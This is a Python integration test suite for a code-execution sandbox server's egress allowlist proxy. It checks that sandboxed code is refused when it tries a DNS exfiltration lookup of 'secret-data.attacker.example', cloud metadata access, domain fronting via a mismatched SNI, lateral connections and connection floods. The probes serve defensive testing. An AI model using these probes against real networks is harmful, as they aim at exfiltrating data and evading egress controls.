#!/usr/bin/env python3
"""The egress allowlist through the real server (docs/network.md): a pool with a network policy
gets its internal network and proxy on the real engine, code in it reaches what the policy
allows and nothing else, every refusal is immediate and readable, the decisions reach the audit
log and /metrics, and the server removes its proxy and network when it stops.

Each attack case runs code in a sandbox of the pool and has an expected verdict. The upstream is
a container of this test on a network of its own (the server's egress.upstream_network), with
two names (web.test, other.test) and an HTTP server that also redirects and echoes.

Needs: SANDBOX_MCP_BIN, the engine, the host firewall (scripts/host.sh installs it), and the
binary sandbox-egress (SANDBOX_EGRESS_BIN) for the proxy's image (images/egress/build.sh).
"""
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.error
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
LABEL = "io.sandbox-mcp.test=egress-server"
TAG = f"egsrv{os.getpid()}"
INSTANCE = f"test-egress-{os.getpid()}"
ADMIN_TOKEN = "egress-test-admin-token"

UPSTREAM = r'''
import http.server, json
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "http://other.test:8080/hello")
            self.end_headers()
            return
        body = (b"egress-ok" if self.path == "/hello" else
                json.dumps(dict(self.headers)).encode())
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), H).serve_forever()
'''


def run(*args, check=True, **kwargs):
    return subprocess.run(args, check=check, capture_output=True, text=True, **kwargs)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class EgressServerTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.bin = os.environ["SANDBOX_MCP_BIN"]
        egress_bin = os.environ["SANDBOX_EGRESS_BIN"]
        built = run("bash", f"{SOURCE}/images/egress/build.sh", egress_bin, check=False)
        if built.returncode != 0:
            raise RuntimeError("images/egress/build.sh: " + built.stdout + built.stderr)
        check = run("bash", f"{SOURCE}/deploy/egress/host-firewall.sh", "check", check=False)
        if check.returncode != 0:
            raise RuntimeError("the host firewall is not installed (scripts/host.sh installs "
                               "it): " + check.stdout + check.stderr)
        cls.net = f"{TAG}-up"
        # A block of 10.213.x.0/24 nobody holds (the server's own come from the low end).
        for third in range(240, 250):
            made = run("docker", "network", "create", "--label", LABEL, "--subnet",
                       f"10.213.{third}.0/24", cls.net, check=False)
            if made.returncode == 0:
                cls.third = third
                break
        else:
            raise RuntimeError("no free 10.213.24x.0/24 for the upstream network")
        cls.upstream_ip = f"10.213.{cls.third}.10"
        run("docker", "run", "-d", "--label", LABEL, "--name", f"{TAG}-web", "--network",
            cls.net, "--ip", cls.upstream_ip, "--network-alias", "web.test", "--network-alias",
            "other.test", "--read-only", "--user", "10001:10001", "--cap-drop", "ALL",
            "--entrypoint", "python3", "sandbox-mcp-python:latest", "-c", UPSTREAM)
        cls.port = free_port()
        cls.log_path = tempfile.mktemp(prefix="egress-server-", suffix=".log")
        config = {
            "instance_id": INSTANCE,
            "sessions": {"warm": 0},
            "server": {"admin_tokens": {"ops": ADMIN_TOKEN}},
            "egress": {"upstream_network": cls.net},
            "pools": [
                {"name": "default", "min_idle": 0, "max_total": 2},
                {"name": "net", "min_idle": 1, "max_total": 3, "network": {
                    "mode": "allowlist",
                    "allow": ["web.test:8080", f"{cls.upstream_ip}:8080"],
                }},
            ],
        }
        cls.config = config
        cls.config_path = tempfile.mktemp(prefix="egress-server-", suffix=".json")
        with open(cls.config_path, "w") as f:
            json.dump(config, f)
        cls.log = open(cls.log_path, "w")
        cls.server = subprocess.Popen(
            [cls.bin, "--listen", f"127.0.0.1:{cls.port}", "--config", cls.config_path,
             "--log-level", "info"], stderr=cls.log, stdout=subprocess.DEVNULL)
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            if cls.server.poll() is not None:
                raise RuntimeError("the server exited: " + open(cls.log_path).read()[-3000:])
            try:
                health = json.load(urllib.request.urlopen(
                    f"http://127.0.0.1:{cls.port}/healthz", timeout=5))
                if any(p.get("name") == "net" and p.get("idle", 0) >= 1
                       for p in health.get("pools", [])):
                    break
            except OSError:
                pass
            time.sleep(0.5)
        else:
            raise RuntimeError("the pool 'net' never had an idle sandbox: " +
                               open(cls.log_path).read()[-3000:])

    @classmethod
    def tearDownClass(cls):
        problems = []
        if getattr(cls, "server", None) is not None:
            cls.server.send_signal(signal.SIGTERM)
            try:
                cls.server.wait(timeout=120)
            except subprocess.TimeoutExpired:
                cls.server.kill()
                problems.append("the server did not stop within 120 s")
            # The server removes its proxy and network when it stops, like its containers.
            left = run("docker", "ps", "-aq", "--filter",
                       f"label=io.sandbox-mcp.instance={INSTANCE}").stdout.split()
            nets = run("docker", "network", "ls", "-q", "--filter",
                       f"label=io.sandbox-mcp.instance={INSTANCE}").stdout.split()
            if left:
                problems.append(f"containers left: {left}")
            if nets:
                problems.append(f"networks left: {nets}")
        for label in (LABEL, f"io.sandbox-mcp.instance={INSTANCE}"):
            for c in run("docker", "ps", "-aq", "--filter", f"label={label}").stdout.split():
                run("docker", "rm", "-f", c, check=False)
        for n in run("docker", "network", "ls", "-q", "--filter",
                     f"label={LABEL}").stdout.split():
            run("docker", "network", "rm", n, check=False)
        for n in run("docker", "network", "ls", "-q", "--filter",
                     f"label=io.sandbox-mcp.instance={INSTANCE}").stdout.split():
            run("docker", "network", "rm", n, check=False)
        if problems:
            raise AssertionError("; ".join(problems))

    def post(self, path, payload, method="POST", headers=None):
        """(status, JSON body) of a POST (or `method`) to the server."""
        req = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}",
                                     data=json.dumps(payload).encode(), method=method,
                                     headers={"Content-Type": "application/json",
                                              **(headers or {})})
        try:
            with urllib.request.urlopen(req, timeout=180) as r:
                return r.status, json.load(r)
        except urllib.error.HTTPError as e:
            return e.code, json.loads(e.read() or b"null")

    def execute(self, code, pool="net", **extra):
        status, body = self.post("/v1/execute",
                                 {"code": code, "pool": pool, "timeout_s": 60, **extra})
        self.assertEqual(status, 200, body)
        self.assertEqual(body["verdict"], "ok", body)
        return body

    def probe(self, code, pool="net", **extra):
        """Runs code that prints one JSON line; returns it."""
        body = self.execute(code, pool, **extra)
        return json.loads(body["stdout"].strip().splitlines()[-1])

    CONNECT = r'''
import errno, json, socket
def connect(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    try:
        s.connect((host, port))
        return "open"
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    finally:
        s.close()
'''

    FETCH = r'''
import json, urllib.request, urllib.error
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=20) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "body": e.read().decode()}
    except Exception as e:
        return {"status": 0, "body": type(e).__name__ + ": " + str(e)}
'''

    # ---- what the policy allows ----

    def test_an_allowed_name_is_reached_through_the_proxy_without_any_setup(self):
        got = self.probe(self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/hello")))')
        self.assertEqual(got, {"status": 200, "body": "egress-ok"})

    def test_an_allowed_address_is_reached(self):
        got = self.probe(self.FETCH + f'print(json.dumps(fetch("http://{self.upstream_ip}:8080/hello")))')
        self.assertEqual(got["status"], 200, got)

    # ---- what it refuses, each with its verdict ----

    def test_a_name_not_allowed_gets_a_403_naming_the_policy(self):
        got = self.probe(self.FETCH + 'print(json.dumps(fetch("http://other.test:8080/hello")))')
        self.assertEqual(got["status"], 403, got)
        self.assertIn('pool "net"', got["body"])
        self.assertIn("other.test:8080", got["body"])

    def test_a_port_not_allowed_is_refused(self):
        got = self.probe(self.FETCH + 'print(json.dumps(fetch("http://web.test:9090/")))')
        self.assertEqual(got["status"], 403, got)

    def test_a_redirect_to_a_host_not_allowed_is_refused_at_the_second_hop(self):
        got = self.probe(self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/redirect")))')
        self.assertEqual(got["status"], 403, got)
        self.assertIn("other.test", got["body"])

    def test_a_direct_connection_bypassing_the_proxy_is_refused_at_once(self):
        got = self.probe(self.CONNECT + f'print(json.dumps(connect("{self.upstream_ip}", 8080)))')
        self.assertIn(got, ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH"))

    def test_the_metadata_address_is_refused_directly_and_through_the_proxy(self):
        got = self.probe(self.CONNECT + self.FETCH + r'''
print(json.dumps({"direct": connect("169.254.169.254", 80),
                  "proxy": fetch("http://169.254.169.254/latest/meta-data/")}))''')
        self.assertIn(got["direct"], ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH"))
        self.assertEqual(got["proxy"]["status"], 403, got)

    def test_the_internet_is_refused_at_once(self):
        got = self.probe(self.CONNECT + 'print(json.dumps(connect("1.1.1.1", 443)))')
        self.assertIn(got, ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH"))

    def test_the_docker_host_and_the_proxys_other_ports_are_refused(self):
        got = self.probe(self.CONNECT + r'''
import os
proxy = os.environ["http_proxy"].split("//")[1].split(":")[0]
gateway = proxy.rsplit(".", 1)[0] + ".1"
print(json.dumps({"gateway_22": connect(gateway, 22), "gateway_2375": connect(gateway, 2375),
                  "proxy_22": connect(proxy, 22), "proxy_8080": connect(proxy, 8080)}))''')
        for where, verdict in got.items():
            self.assertIn(verdict, ("ECONNREFUSED", "EHOSTUNREACH"), where)

    def test_dns_answers_nothing_so_names_cannot_carry_data_out(self):
        got = self.probe(r'''
import json, socket
out = {}
for name in ("secret-data.attacker.example", "web.test", "other.test"):
    try:
        socket.getaddrinfo(name, 80)
        out[name] = "resolved"
    except socket.gaierror as e:
        out[name] = "failed"
print(json.dumps(out))''')
        self.assertEqual(set(got.values()), {"failed"}, got)

    def test_ipv6_is_absent(self):
        got = self.probe(self.CONNECT + r'''
try:
    v6 = open("/proc/net/if_inet6").read().strip()
except OSError:
    v6 = ""
print(json.dumps({"if_inet6": v6, "connect": connect("2606:4700::1111", 443, socket.AF_INET6)}))''')
        self.assertNotIn("eth0", got["if_inet6"])
        self.assertIn(got["connect"], ("ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT",
                                       "EHOSTUNREACH", "ECONNREFUSED"))

    def test_connect_to_an_allowed_name_with_another_sni_is_refused(self):
        # A tunnel to an allowed name whose TLS handshake names another host (domain fronting).
        got = self.probe(r'''
import json, os, socket, ssl
proxy = os.environ["http_proxy"].split("//")[1]
host, port = proxy.split(":")
s = socket.create_connection((host, int(port)), timeout=20)
s.sendall(b"CONNECT web.test:8080 HTTP/1.1\r\nHost: web.test:8080\r\n\r\n")
head = s.recv(4096).decode(errors="replace").split("\r\n")[0]
ctx = ssl.create_default_context()
try:
    ctx.wrap_socket(s, server_hostname="evil.example").do_handshake()
    tls = "handshake"
except ssl.SSLError as e:
    tls = e.reason or str(e)
except OSError as e:
    tls = "closed: " + str(e)
print(json.dumps({"head": head, "tls": tls}))''')
        self.assertIn("200", got["head"])
        self.assertNotEqual(got["tls"], "handshake")
        self.assertIn("ACCESS_DENIED", got["tls"].upper())

    def test_connect_to_a_name_not_allowed_with_an_allowed_sni_is_refused(self):
        got = self.probe(r'''
import json, os, socket
proxy = os.environ["http_proxy"].split("//")[1]
host, port = proxy.split(":")
s = socket.create_connection((host, int(port)), timeout=20)
s.sendall(b"CONNECT other.test:8080 HTTP/1.1\r\nHost: other.test:8080\r\n\r\n")
print(json.dumps({"head": s.recv(4096).decode(errors="replace").split("\r\n")[0]}))''')
        self.assertIn(" 403 ", got["head"])

    def test_another_sandbox_on_the_same_network_is_unreachable(self):
        status, session = self.post("/v1/sessions", {"pool": "net"})
        self.assertEqual(status, 201, session)
        sid = session["session_id"]
        try:
            # A listener in a session's interpreter, alive between its calls.
            status, body = self.post("/v1/execute", {"session_id": sid, "code": self.CONNECT + r'''
import os, threading
listener = socket.socket()
listener.bind(("0.0.0.0", 9999))
listener.listen(16)
threading.Thread(target=lambda: [listener.accept() for _ in iter(int, 1)], daemon=True).start()
me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
me.connect((os.environ["http_proxy"].split("//")[1].split(":")[0], 3128))
mine = me.getsockname()[0]
print(json.dumps({"addr": mine, "self": connect(mine, 9999)}))'''})
            self.assertEqual(status, 200, body)
            self.assertTrue(body["stdout"].strip(), body)
            own = json.loads(body["stdout"].strip().splitlines()[-1])
            self.assertEqual(own["self"], "open", own)  # it listens
            # From another sandbox of the pool: refused at once.
            got = self.probe(self.CONNECT + f'print(json.dumps(connect("{own["addr"]}", 9999)))')
            self.assertIn(got, ("ECONNREFUSED", "EHOSTUNREACH"))
        finally:
            req = urllib.request.Request(f"http://127.0.0.1:{self.port}/v1/sessions/{sid}",
                                         method="DELETE")
            urllib.request.urlopen(req, timeout=60).close()

    def test_a_connection_flood_is_bounded_per_sandbox(self):
        got = self.probe(r'''
import json, os, socket
proxy = os.environ["http_proxy"].split("//")[1]
host, port = proxy.split(":")
held, refused, answers = [], 0, set()
for i in range(60):
    try:
        s = socket.create_connection((host, int(port)), timeout=10)
        held.append(s)
    except OSError:
        refused += 1
# The proxy answers the ones over its own limit with a 429 at once.
for s in held:
    s.settimeout(0.5)
    try:
        data = s.recv(64)
        if data:
            answers.add(data.split(b"\r\n")[0].decode())
    except OSError:
        pass
print(json.dumps({"held": len(held), "refused": refused, "answers": sorted(answers)}))''')
        # Past the proxy's 32 a source gets its readable 429; past the host firewall's 40 the
        # kernel resets the connection (deploy/egress/host-firewall.sh).
        self.assertTrue(any(" 429 " in answer for answer in got["answers"]), got)
        self.assertGreater(got["refused"], 0, got)
        self.assertLessEqual(got["held"], 40, got)

    def test_the_pool_without_a_policy_has_no_network_at_all(self):
        got = self.probe(self.CONNECT + r'''
import os
print(json.dumps({"proxy_env": os.environ.get("http_proxy", ""),
                  "connect": connect("1.1.1.1", 443)}))''', pool="default")
        self.assertEqual(got["proxy_env"], "")
        self.assertEqual(got["connect"], "ENETUNREACH")

    # ---- narrowing: a run or a session may ask for less, never more ----

    def test_a_run_may_narrow_its_pools_policy_for_itself_only(self):
        by_name = self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/hello")))'
        by_address = self.FETCH + f'print(json.dumps(fetch("http://{self.upstream_ip}:8080/hello")))'
        narrow = {"allow": [f"{self.upstream_ip}:8080"]}
        self.assertEqual(self.probe(by_name, network=narrow)["status"], 403)
        self.assertEqual(self.probe(by_address, network=narrow)["status"], 200)
        # The next runs in the same sandboxes get the pool's policy again.
        for _ in range(3):
            self.assertEqual(self.probe(by_name)["status"], 200)

    def test_a_run_may_turn_the_network_off(self):
        got = self.probe(self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/hello")))',
                         network="none")
        self.assertEqual(got["status"], 403, got)
        self.assertIn("no network access", got["body"])

    def test_a_wider_request_is_refused_naming_the_entry(self):
        status, body = self.post("/v1/execute", {"code": "print(1)", "pool": "net",
                                                 "network": {"allow": ["other.test:8080"]}})
        self.assertEqual(status, 400, body)
        self.assertIn("other.test:8080", json.dumps(body))
        status, body = self.post("/v1/execute", {"code": "print(1)", "pool": "default",
                                                 "network": {"allow": ["web.test:8080"]}})
        self.assertEqual(status, 400, body)
        self.assertIn("has no network", json.dumps(body))

    def test_a_live_session_can_be_narrowed(self):
        status, session = self.post("/v1/sessions", {"pool": "net"})
        self.assertEqual(status, 201, session)
        sid = session["session_id"]
        fetch = self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/hello")))'
        try:
            def run(**extra):
                status, body = self.post("/v1/execute",
                                         {"code": fetch, "session_id": sid, **extra})
                self.assertEqual(status, 200, body)
                return json.loads(body["stdout"].strip().splitlines()[-1])["status"]
            self.assertEqual(run(), 200)
            self.assertEqual(run(network={"allow": [f"{self.upstream_ip}:8080"]}), 403)
            self.assertEqual(run(), 403)  # from then on, for the session's life
        finally:
            req = urllib.request.Request(f"http://127.0.0.1:{self.port}/v1/sessions/{sid}",
                                         method="DELETE")
            urllib.request.urlopen(req, timeout=60).close()

    def test_a_session_keeps_its_narrowing_for_its_life(self):
        status, session = self.post("/v1/sessions", {"pool": "net", "network": "none"})
        self.assertEqual(status, 201, session)
        sid = session["session_id"]
        try:
            fetch = self.FETCH + 'print(json.dumps(fetch("http://web.test:8080/hello")))'
            for _ in range(2):
                status, body = self.post("/v1/execute", {"code": fetch, "session_id": sid})
                self.assertEqual(status, 200, body)
                got = json.loads(body["stdout"].strip().splitlines()[-1])
                self.assertEqual(got["status"], 403, got)
            # A call may narrow it further, never widen it again.
            status, body = self.post("/v1/execute", {"code": "1", "session_id": sid,
                                                     "network": {"allow": ["web.test:8080"]}})
            self.assertEqual(status, 400, body)
            self.assertIn("narrower already", json.dumps(body))
        finally:
            req = urllib.request.Request(f"http://127.0.0.1:{self.port}/v1/sessions/{sid}",
                                         method="DELETE")
            urllib.request.urlopen(req, timeout=60).close()

    # ---- live changes ----

    def admin_patch(self, change):
        return self.post("/admin/pools/net", change, method="PATCH",
                         headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})

    def test_a_live_change_of_the_allowlist_reaches_running_sandboxes(self):
        fetch_other = self.FETCH + 'print(json.dumps(fetch("http://other.test:8080/hello")))'
        configured = ["web.test:8080", f"{self.upstream_ip}:8080"]
        self.assertEqual(self.probe(fetch_other)["status"], 403)
        try:
            status, body = self.admin_patch({"network": {
                "mode": "allowlist", "allow": configured + ["other.test:8080"]}})
            self.assertEqual(status, 200, body)
            self.assertIn("other.test:8080", body["network"]["allow"])
            # The warm sandboxes follow: no new container is needed.
            for _ in range(3):
                self.assertEqual(self.probe(fetch_other)["status"], 200)
            # On or off is a restart's business; a bad entry is refused naming it.
            status, body = self.admin_patch({"network": {"mode": "none"}})
            self.assertEqual(status, 409, body)
            status, body = self.admin_patch({"network": {"mode": "allowlist",
                                                         "allow": ["web.test", "*"]}})
            self.assertEqual(status, 400, body)
            self.assertIn("network.allow[1]", json.dumps(body))
        finally:
            status, body = self.admin_patch({"network": {"mode": "allowlist",
                                                         "allow": configured}})
            self.assertEqual(status, 200, body)
        self.assertEqual(self.probe(fetch_other)["status"], 403)

    def reload_with_allow(self, allow):
        config = json.loads(json.dumps(self.config))
        config["pools"][1]["network"]["allow"] = allow
        with open(self.config_path, "w") as f:
            json.dump(config, f)
        self.server.send_signal(signal.SIGHUP)

    def test_a_reload_changes_the_allowlist_live(self):
        fetch_other = self.FETCH + 'print(json.dumps(fetch("http://other.test:8080/hello")))'
        configured = self.config["pools"][1]["network"]["allow"]

        def becomes(status):
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                if self.probe(fetch_other)["status"] == status:
                    return True
                time.sleep(0.2)
            return False
        try:
            self.reload_with_allow(configured + ["other.test:8080"])
            self.assertTrue(becomes(200), "the reload never allowed other.test")
        finally:
            self.reload_with_allow(configured)
        self.assertTrue(becomes(403), "the second reload never took other.test away")
        with open(self.log_path) as f:
            self.assertIn("SIGHUP (reload) changed pool 'net' network", f.read())

    # ---- what the operator sees ----

    def test_refusals_are_counted_and_audited(self):
        self.probe(self.FETCH + 'print(json.dumps(fetch("http://other.test:8080/audit-me")))')
        deadline = time.monotonic() + 20
        metrics = log = ""
        while time.monotonic() < deadline:
            metrics = urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics",
                                             timeout=10).read().decode()
            with open(self.log_path) as f:
                log = f.read()
            if ('sandbox_egress_total{' in metrics and 'verdict="refused"' in metrics
                    and "other.test:8080" in log):
                break
            time.sleep(0.5)
        refused = [line for line in metrics.splitlines()
                   if line.startswith("sandbox_egress_total{") and 'pool="net"' in line
                   and 'verdict="refused"' in line and 'kind="conn"' in line]
        self.assertTrue(refused, metrics)
        audit = [line for line in log.splitlines() if "egress" in line and "other.test" in line]
        self.assertTrue(audit, log[-3000:])
        self.assertIn("verdict=refused", audit[-1])

    def test_sandbox_info_says_what_the_code_may_reach(self):
        # run_python's description, as an MCP client lists it.
        init = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {},
            "clientInfo": {"name": "egress-test", "version": "1"}}}
        headers = {"Content-Type": "application/json",
                   "Accept": "application/json, text/event-stream"}
        req = urllib.request.Request(f"http://127.0.0.1:{self.port}/mcp",
                                     data=json.dumps(init).encode(), headers=headers)
        with urllib.request.urlopen(req, timeout=30) as r:
            session = r.headers["Mcp-Session-Id"]
        headers.update({"Mcp-Session-Id": session, "MCP-Protocol-Version": "2025-11-25"})
        listing = {"jsonrpc": "2.0", "id": 2, "method": "tools/list", "params": {}}
        req = urllib.request.Request(f"http://127.0.0.1:{self.port}/mcp",
                                     data=json.dumps(listing).encode(), headers=headers)
        with urllib.request.urlopen(req, timeout=30) as r:
            text = r.read().decode()
        payload = json.loads(text[text.index("{"):] if text.startswith("{") else
                             [l[6:] for l in text.splitlines() if l.startswith("data: ")][-1])
        tools = {t["name"]: t for t in payload["result"]["tools"]}
        about = tools["run_python"]["inputSchema"]["properties"]["pool"]["description"]
        self.assertIn('"net" network: allowlist: web.test:8080', about)
        self.assertIn("No network access", tools["run_python"]["description"])


if __name__ == "__main__":
    unittest.main(verbosity=2)
